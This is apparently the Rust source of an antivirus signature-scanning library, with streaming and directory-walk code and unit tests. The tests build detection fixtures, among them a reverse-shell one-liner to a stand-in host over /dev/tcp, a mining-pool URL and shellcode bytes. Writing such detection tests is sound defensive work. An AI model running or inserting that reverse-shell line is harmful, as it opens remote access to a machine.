//! avscan signature engine: finds known byte signatures in buffers, streams,
//! files and directory trees.
//!
//! All signatures are matched in a single pass with an Aho-Corasick automaton.
//! The signature database is compiled into the library at build time from
//! `signatures/signatures.txt` (see `build.rs`).
//!
//! ```
//! let scanner = avscan_engine::Scanner::new();
//! assert!(scanner.scan_bytes(b"nothing to see here").is_empty());
//! ```

use std::fs::{self, File, FileType};
use std::io::{self, Read};
use std::path::{Path, PathBuf};

use aho_corasick::AhoCorasick;

// Defines `PATTERN_MASK` and `MASKED_SIGNATURES`.
include!(concat!(env!("OUT_DIR"), "/signatures.rs"));

// The database parser lives in the build script; it is compiled here too so
// that its validation rules are unit-tested.
#[cfg(test)]
mod sigfile;

/// How many bytes [`Scanner::scan_reader`] reads at a time.
pub const DEFAULT_CHUNK_SIZE: usize = 64 * 1024;

/// One occurrence of a signature.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Match {
    /// Name of the signature that matched, e.g. `EICAR-Test-File`.
    pub signature: &'static str,
    /// Byte offset of the start of the match in the scanned data.
    pub offset: u64,
}

/// The outcome of scanning one file found by [`Scanner::scan_path`].
#[derive(Debug)]
pub struct FileScan {
    /// The file (or, for a directory that could not be read, the directory).
    pub path: PathBuf,
    /// The matches in the file, or the error that stopped its scan.
    pub result: io::Result<Vec<Match>>,
}

impl FileScan {
    /// Whether at least one signature matched in this file.
    pub fn is_infected(&self) -> bool {
        matches!(&self.result, Ok(matches) if !matches.is_empty())
    }
}

/// A compiled set of signatures, ready to scan.
#[derive(Debug, Clone)]
pub struct Scanner {
    automaton: AhoCorasick,
    /// Signature names, indexed by the automaton's pattern ids.
    names: Vec<&'static str>,
    /// Length of the longest pattern, which bounds the overlap kept between
    /// chunks when streaming.
    max_pattern_len: usize,
}

impl Default for Scanner {
    fn default() -> Self {
        Self::new()
    }
}

impl Scanner {
    /// Creates a scanner with the built-in signature database.
    pub fn new() -> Self {
        let names = MASKED_SIGNATURES.iter().map(|&(name, _)| name).collect();
        let patterns: Vec<Vec<u8>> = MASKED_SIGNATURES
            .iter()
            .map(|(_, masked)| masked.iter().map(|byte| byte ^ PATTERN_MASK).collect())
            .collect();
        let max_pattern_len = patterns.iter().map(Vec::len).max().unwrap_or(0);
        let automaton =
            AhoCorasick::new(&patterns).expect("the built-in signature database compiles");
        Scanner {
            automaton,
            names,
            max_pattern_len,
        }
    }

    /// Names of all signatures in the database, sorted.
    pub fn signature_names(&self) -> &[&'static str] {
        &self.names
    }

    /// Scans an in-memory buffer. Every occurrence of every signature is
    /// reported, including overlapping ones, sorted by offset.
    pub fn scan_bytes(&self, data: &[u8]) -> Vec<Match> {
        let mut matches: Vec<Match> = self
            .automaton
            .find_overlapping_iter(data)
            .map(|found| self.to_match(found, 0))
            .collect();
        sort_matches(&mut matches);
        matches
    }

    /// Scans a stream in chunks of [`DEFAULT_CHUNK_SIZE`] bytes, using memory
    /// independent of its length. Finds exactly what [`Scanner::scan_bytes`]
    /// would find on the whole stream, including matches that span chunks.
    pub fn scan_reader<R: Read>(&self, reader: R) -> io::Result<Vec<Match>> {
        self.scan_reader_chunked(reader, DEFAULT_CHUNK_SIZE)
    }

    /// Scans one file's contents.
    pub fn scan_file(&self, path: &Path) -> io::Result<Vec<Match>> {
        self.scan_reader(File::open(path)?)
    }

    /// Scans a file, or every regular file under a directory, recursively.
    ///
    /// A symbolic link given as `path` itself is followed, but links found
    /// while walking a directory are skipped, as are special files (FIFOs,
    /// sockets, devices). Files are visited in sorted path order. Errors on
    /// individual files or subdirectories are reported in the returned list;
    /// only an unusable `path` is an error of the whole call.
    pub fn scan_path(&self, path: &Path) -> io::Result<Vec<FileScan>> {
        let file_type = fs::metadata(path)?.file_type();
        if !file_type.is_dir() && !file_type.is_file() {
            return Err(io::Error::new(
                io::ErrorKind::InvalidInput,
                "not a regular file or directory",
            ));
        }

        let mut results = Vec::new();
        // Depth-first walk with an explicit stack, so deep trees cannot
        // overflow the call stack. Each directory's entries are pushed in
        // reverse order so that they are popped in sorted order.
        let mut pending = vec![(path.to_path_buf(), file_type)];
        while let Some((path, file_type)) = pending.pop() {
            if file_type.is_file() {
                let result = self.scan_file(&path);
                results.push(FileScan { path, result });
            } else if file_type.is_dir() {
                match sorted_dir_entries(&path) {
                    Ok(entries) => pending.extend(entries.into_iter().rev()),
                    Err(err) => results.push(FileScan {
                        path,
                        result: Err(err),
                    }),
                }
            }
            // Anything else is a symlink or a special file: skipped.
        }
        Ok(results)
    }

    /// [`Scanner::scan_reader`] with a configurable chunk size.
    fn scan_reader_chunked<R: Read>(
        &self,
        mut reader: R,
        chunk_size: usize,
    ) -> io::Result<Vec<Match>> {
        // A match ending in a new chunk starts at most `max_pattern_len - 1`
        // bytes before it, so that many bytes are carried over each time.
        let overlap = self.max_pattern_len.saturating_sub(1);
        let mut window: Vec<u8> = Vec::with_capacity(overlap + chunk_size);
        // Stream offset of `window[0]`.
        let mut window_offset = 0u64;
        let mut matches = Vec::new();

        loop {
            let carried = window.len();
            window.resize(carried + chunk_size, 0);
            let read = loop {
                match reader.read(&mut window[carried..]) {
                    Ok(read) => break read,
                    Err(err) if err.kind() == io::ErrorKind::Interrupted => continue,
                    Err(err) => return Err(err),
                }
            };
            window.truncate(carried + read);
            if read == 0 {
                break;
            }

            // Matches ending inside the carried bytes were already reported
            // with the previous window.
            matches.extend(
                self.automaton
                    .find_overlapping_iter(&window)
                    .filter(|found| found.end() > carried)
                    .map(|found| self.to_match(found, window_offset)),
            );

            let consumed = window.len().saturating_sub(overlap);
            window.drain(..consumed);
            window_offset += consumed as u64;
        }

        sort_matches(&mut matches);
        Ok(matches)
    }

    /// Converts an automaton match found in data starting at stream offset `base`.
    fn to_match(&self, found: aho_corasick::Match, base: u64) -> Match {
        Match {
            signature: self.names[found.pattern().as_usize()],
            offset: base + found.start() as u64,
        }
    }
}

/// Orders matches by offset, then by signature name.
fn sort_matches(matches: &mut [Match]) {
    matches.sort_unstable_by_key(|found| (found.offset, found.signature));
}

/// Lists a directory's entries with their (not followed) file types, sorted by path.
fn sorted_dir_entries(dir: &Path) -> io::Result<Vec<(PathBuf, FileType)>> {
    let mut entries = fs::read_dir(dir)?
        .map(|entry| {
            let entry = entry?;
            Ok((entry.path(), entry.file_type()?))
        })
        .collect::<io::Result<Vec<_>>>()?;
    entries.sort_by(|a, b| a.0.cmp(&b.0));
    Ok(entries)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The EICAR test string, assembled at run time so that no source file
    /// holds it whole (and gets flagged by other scanners).
    fn eicar() -> Vec<u8> {
        let head = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$";
        let tail = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
        [head, tail].concat().into_bytes()
    }

    fn found(signature: &'static str, offset: u64) -> Match {
        Match { signature, offset }
    }

    /// A reader that returns at most a few bytes per `read` call.
    struct Trickle<'a> {
        data: &'a [u8],
        calls: usize,
    }

    impl Read for Trickle<'_> {
        fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
            self.calls += 1;
            let len = (self.calls % 7 + 1).min(buf.len()).min(self.data.len());
            buf[..len].copy_from_slice(&self.data[..len]);
            self.data = &self.data[len..];
            Ok(len)
        }
    }

    #[test]
    fn eicar_is_found() {
        let scanner = Scanner::new();
        assert_eq!(scanner.scan_bytes(&eicar()), [found("EICAR-Test-File", 0)]);

        let mut data = b"prefix ".to_vec();
        data.extend(eicar());
        assert_eq!(scanner.scan_bytes(&data), [found("EICAR-Test-File", 7)]);
        assert_eq!(
            scanner.scan_reader(&data[..]).unwrap(),
            [found("EICAR-Test-File", 7)]
        );
    }

    #[test]
    fn clean_data_is_not_flagged() {
        let scanner = Scanner::new();
        let text = b"Just an ordinary text file.\nNothing to see here.\n".repeat(1000);
        let binary: Vec<u8> = (0..=255u8).cycle().take(300_000).collect();
        for data in [&text[..], &binary[..], b""] {
            assert!(scanner.scan_bytes(data).is_empty());
            assert!(scanner.scan_reader(data).unwrap().is_empty());
        }
    }

    #[test]
    fn match_spanning_chunk_boundary_is_found() {
        let scanner = Scanner::new();
        let start = DEFAULT_CHUNK_SIZE - 20;
        let mut data = vec![b'a'; start];
        data.extend(eicar());
        data.extend(vec![b'a'; 100]);

        assert_eq!(
            scanner.scan_reader(&data[..]).unwrap(),
            [found("EICAR-Test-File", start as u64)]
        );
    }

    #[test]
    fn streaming_agrees_with_whole_buffer_at_every_chunk_size() {
        let scanner = Scanner::new();
        let mut data = b"0123456789".to_vec();
        data.extend(eicar());
        data.extend(eicar());
        data.extend(b"YOUR FILES HAVE BEEN ENCRYPTED BY DEMOLOCKER");
        data.extend([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00]);
        data.extend([0xde, 0xad, 0xbe, 0xef, 0xca, 0xfe, 0xba, 0xbe]);
        let expected = scanner.scan_bytes(&data);
        assert_eq!(expected.len(), 4);

        for chunk_size in 1..=data.len() + 1 {
            let streamed = scanner.scan_reader_chunked(&data[..], chunk_size).unwrap();
            assert_eq!(streamed, expected, "chunk size {chunk_size}");
        }
        let trickle = Trickle {
            data: &data,
            calls: 0,
        };
        assert_eq!(scanner.scan_reader(trickle).unwrap(), expected);
    }

    #[test]
    fn multiple_signatures_in_one_buffer() {
        let scanner = Scanner::new();
        let mut data = b"#!/bin/sh\n/bin/sh -i >& /dev/tcp/demo-c2.invalid/4444 0>&1\n".to_vec();
        let eicar_at = data.len() as u64;
        data.extend(eicar());
        data.extend(b"\n");
        let miner_at = data.len() as u64;
        data.extend(b"stratum+tcp://demo-pool.invalid:3333\n");
        let shellcode_at = data.len() as u64 + 4;
        data.extend([0x00; 4]);
        data.extend([0x90; 8]);
        data.extend([0x31, 0xc0, 0x50, 0x68, 0x2f, 0x2f, 0x73, 0x68]);

        assert_eq!(
            scanner.scan_bytes(&data),
            [
                found("Demo.Backdoor.ReverseShell", 10),
                found("EICAR-Test-File", eicar_at),
                found("Demo.Miner.StratumUrl", miner_at),
                found("Demo.Shellcode.NopSled", shellcode_at),
            ]
        );
    }

    #[test]
    fn every_occurrence_is_reported() {
        let scanner = Scanner::new();
        let data = [eicar(), eicar(), eicar()].concat();
        let offsets: Vec<u64> = scanner.scan_bytes(&data).iter().map(|m| m.offset).collect();
        assert_eq!(offsets, [0, 68, 136]);
    }

    #[test]
    fn built_in_database_matches_signature_file() {
        let entries = sigfile::parse(include_str!("../signatures/signatures.txt")).unwrap();
        let names: Vec<&str> = entries.iter().map(|entry| entry.name.as_str()).collect();
        assert_eq!(Scanner::new().signature_names(), names);
        assert_eq!(names.len(), 15);

        // Each signature, alone in a buffer, matches exactly itself.
        let scanner = Scanner::new();
        for entry in &entries {
            let matches: Vec<(&str, u64)> = scanner
                .scan_bytes(&entry.pattern)
                .iter()
                .map(|found| (found.signature, found.offset))
                .collect();
            assert_eq!(matches, [(entry.name.as_str(), 0)]);
        }
    }

    /// A temporary directory, removed on drop.
    struct TempDir(PathBuf);

    impl TempDir {
        fn new(name: &str) -> Self {
            let path =
                std::env::temp_dir().join(format!("avscan-engine-{name}-{}", std::process::id()));
            let _ = fs::remove_dir_all(&path);
            fs::create_dir_all(&path).unwrap();
            TempDir(path)
        }
    }

    impl Drop for TempDir {
        fn drop(&mut self) {
            let _ = fs::remove_dir_all(&self.0);
        }
    }

    #[test]
    fn scan_path_walks_directories_in_sorted_order() {
        let scanner = Scanner::new();
        let dir = TempDir::new("walk");
        let root = &dir.0;
        fs::create_dir_all(root.join("b/nested")).unwrap();
        fs::write(root.join("a.txt"), "clean").unwrap();
        fs::write(root.join("b/nested/eicar.com"), eicar()).unwrap();
        fs::write(root.join("b/readme"), "clean too").unwrap();
        fs::write(root.join("c.bin"), eicar()).unwrap();
        #[cfg(unix)]
        std::os::unix::fs::symlink(root.join("c.bin"), root.join("link.bin")).unwrap();

        let results = scanner.scan_path(root).unwrap();
        let summary: Vec<(PathBuf, bool)> = results
            .iter()
            .map(|scan| {
                (
                    scan.path.strip_prefix(root).unwrap().to_path_buf(),
                    scan.is_infected(),
                )
            })
            .collect();
        assert_eq!(
            summary,
            [
                (PathBuf::from("a.txt"), false),
                (PathBuf::from("b/nested/eicar.com"), true),
                (PathBuf::from("b/readme"), false),
                (PathBuf::from("c.bin"), true),
            ]
        );

        // A single file can be scanned directly too.
        let single = scanner.scan_path(&root.join("c.bin")).unwrap();
        assert_eq!(single.len(), 1);
        assert!(single[0].is_infected());
    }

    #[test]
    fn scan_path_fails_on_missing_path() {
        let scanner = Scanner::new();
        let dir = TempDir::new("missing");
        let err = scanner.scan_path(&dir.0.join("nope")).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::NotFound);
    }
}
